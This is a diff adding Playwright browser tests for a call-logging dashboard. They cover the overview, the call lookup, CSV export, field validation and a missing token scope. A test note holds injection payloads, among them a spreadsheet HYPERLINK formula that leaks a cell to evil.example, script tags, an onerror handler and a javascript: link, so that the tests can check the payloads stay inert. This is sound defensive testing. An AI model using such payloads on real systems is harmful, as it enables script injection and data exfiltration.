@@ -1,0 +1,162 @@
+"""Logging a call in Chromium: it reaches the overview, the lookup and the CSV; bad input stays."""
+
+from __future__ import annotations
+
+import csv
+import re
+from collections.abc import Callable
+
+import pytest
+from playwright.sync_api import Locator, Page, expect
+
+from lib.filters import today_in
+from lib.sandbox import Sandbox
+from tests.browser.conftest import Apps, snapshot
+from tests.browser.harness import RunningApp, SecretScan
+from tests.browser.ui import TZ, choose, cli_summary, expect_cards_equal, expect_no_traceback
+
+pytestmark = pytest.mark.browser
+
+# A note a hostile or careless rep could type: a spreadsheet formula, HTML, script, Markdown.
+HOSTILE_NOTE = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"open") <script>window.pwned=1</script>'
+    '<img src=x onerror="window.pwned=2"> <b>bold</b> [link](javascript:window.pwned=3) '
+    "**not bold** marker-7f3a"
+)
+
+
+def field_message(page: Page, field: Locator) -> Locator:
+    """The alert drawn right after the widget that holds `field` (the form puts messages there)."""
+    container = field.locator("xpath=ancestor::div[@data-testid='stElementContainer'][1]")
+    return container.locator("xpath=following-sibling::div[1]").get_by_test_id("stAlert")
+
+
+def open_form(page: Page, app: RunningApp) -> None:
+    page.goto(f"{app.url}/log")
+    expect(page.get_by_role("heading", name="Log a call")).to_be_visible()
+    expect(page.get_by_role("button", name="Log call")).to_be_enabled()
+
+
+def test_a_logged_call_appears_on_the_overview_in_the_lookup_and_in_the_csv(
+    dashboard: RunningApp, app_sandbox: Sandbox, page: Page, secret_scan: SecretScan
+) -> None:
+    today = today_in(TZ)
+    before = cli_summary(app_sandbox.base_url, app_sandbox.full_token, today, today)
+    page.goto(f"{dashboard.url}/?range=Today")
+    expect_cards_equal(page, before)
+
+    open_form(page, dashboard)
+    page.get_by_text("Outbound", exact=True).click()
+    page.get_by_role("textbox", name="From number").fill("(201) 555-0123")
+    page.get_by_role("textbox", name="To number").fill("+44 20 7946 0958")
+    choose(page, "Disposition", "Interested (Answered)")
+    page.get_by_role("textbox", name="Note").fill(HOSTILE_NOTE)
+    page.get_by_role("button", name="Log call").click()
+    logged = page.get_by_text(re.compile(r"Logged call \d+\."))
+    expect(logged).to_be_visible()
+    call_id = int(re.search(r"Logged call (\d+)", logged.inner_text()).group(1))
+    snapshot(page, "log-call-logged", secret_scan)
+
+    # The lookup, through the link the form offers.
+    page.get_by_role("link", name=f"Open call {call_id} in the call lookup").click()
+    expect(page.get_by_role("heading", name=f"Call {call_id}")).to_be_visible()
+    expect(page).to_have_url(re.compile(rf"[?&]id={call_id}\b"))
+    expect(page.get_by_text(HOSTILE_NOTE, exact=True)).to_be_visible()
+    expect(page.get_by_text("+12015550123", exact=True)).to_be_visible()
+    expect(page.get_by_text("Interested", exact=True)).to_be_visible()
+    # The note's markup stayed text: nothing of it became an element or ran.
+    main = page.get_by_test_id("stMain")
+    expect(main.locator("img[src=x]")).to_have_count(0)
+    expect(main.locator("b", has_text="bold")).to_have_count(0)
+    expect(main.locator("a[href^=javascript]")).to_have_count(0)
+    assert page.evaluate("window.pwned") is None
+    snapshot(page, "lookup-logged-call", secret_scan)
+
+    # The overview counts it at once.
+    after = cli_summary(app_sandbox.base_url, app_sandbox.full_token, today, today)
+    assert after["calls"] == before["calls"] + 1
+    page.goto(f"{dashboard.url}/?range=Today")
+    expect_cards_equal(page, after)
+    assert page.evaluate("window.pwned") is None
+
+    # And the CSV of today's calls has it, with the formula neutralised.
+    with page.expect_download() as download:
+        page.get_by_role("button", name="Download these calls (CSV)").click()
+    path = download.value.path()
+    secret_scan.check("CSV download", path.read_bytes(), "files")
+    rows = list(csv.DictReader(path.open(newline="", encoding="utf-8")))
+    mine = [row for row in rows if row.get("id") == str(call_id)]
+    assert len(mine) == 1, f"call {call_id} not in the CSV's {len(rows)} rows"
+    note = mine[0]["note"]
+    assert "marker-7f3a" in note
+    assert note[0] not in "=+-@\t\r", "a spreadsheet would run this cell as a formula"
+    assert note.lstrip("'") == HOSTILE_NOTE
+    for row in rows:
+        for value in row.values():
+            assert not value or value[0] not in "=+-@\t\r", f"formula-like cell {value!r}"
+
+
+def test_invalid_input_is_explained_beside_each_field_and_nothing_typed_is_lost(
+    dashboard: RunningApp, app_sandbox: Sandbox, page: Page, secret_scan: SecretScan
+) -> None:
+    calls_before = len(app_sandbox.all_calls())
+    open_form(page, dashboard)
+    typed = {"From number": "call me maybe", "To number": "+44 20 7946 0958",
+             "Prospect id": "x1"}
+    for label, value in typed.items():
+        page.get_by_role("textbox", name=label).fill(value)
+    note = "Spoke to <b>Ann</b>; wants a demo"
+    page.get_by_role("textbox", name="Note").fill(note)
+    # No direction chosen: required.
+    page.get_by_role("button", name="Log call").click()
+
+    expect(page.get_by_text("The call was not logged: see the messages above.")).to_be_visible()
+    from_box = page.get_by_role("textbox", name="From number")
+    expect(field_message(page, from_box)).to_contain_text("This is not a phone number")
+    prospect = page.get_by_role("textbox", name="Prospect id")
+    expect(field_message(page, prospect)).to_contain_text("digits only")
+    direction = page.get_by_role("radiogroup", name="Direction (required)")
+    expect(field_message(page, direction)).to_contain_text("Choose whether you called them")
+    # A field typed correctly gets no message.
+    expect(field_message(page, page.get_by_role("textbox", name="To number"))).to_have_count(0)
+    # Everything typed is still there to be corrected.
+    for label, value in typed.items():
+        expect(page.get_by_role("textbox", name=label)).to_have_value(value)
+    expect(page.get_by_role("textbox", name="Note")).to_have_value(note)
+    expect_no_traceback(page)
+    snapshot(page, "log-call-invalid-input", secret_scan)
+    assert len(app_sandbox.all_calls()) == calls_before
+
+
+@pytest.fixture(scope="module")
+def read_only_app(apps: Apps, app_sandbox: Sandbox, secret_scan: SecretScan) -> RunningApp:
+    """The dashboard with a token that may read everything but not create calls."""
+    token = app_sandbox.issue_token(
+        ["read_calls", "read_users", "read_call_dispositions", "read_call_purposes"], ttl=7200)
+    secret_scan.add_secret("token without create_calls", token)
+    return apps.start("no-create-scope", env={
+        "OUTREACH_API_BASE": app_sandbox.base_url,
+        "OUTREACH_ACCESS_TOKEN": token,
+        "CALLBOARD_TIMEZONE": TZ,
+    })
+
+
+def test_a_token_without_create_calls_says_so_on_the_form(
+    read_only_app: RunningApp, app_sandbox: Sandbox, new_page: Callable[[], Page],
+    secret_scan: SecretScan,
+) -> None:
+    page = new_page()
+    calls_before = len(app_sandbox.all_calls())
+    open_form(page, read_only_app)
+    scope_sentence = "not allowed to log calls (it lacks the scope 'create_calls')"
+    # Said before anyone types, since /1.0/info lists the token's scopes ...
+    expect(page.get_by_text(re.compile(re.escape(scope_sentence))).first).to_be_visible()
+    # ... and again if someone tries anyway.
+    page.get_by_text("Inbound", exact=True).click()
+    page.get_by_role("textbox", name="From number").fill("+44 20 7946 0958")
+    page.get_by_role("button", name="Log call").click()
+    failure = page.get_by_test_id("stAlert").filter(has_text="The call was not logged")
+    expect(failure).to_contain_text(scope_sentence)
+    expect_no_traceback(page)
+    snapshot(page, "log-call-missing-scope", secret_scan)
+    assert len(app_sandbox.all_calls()) == calls_before
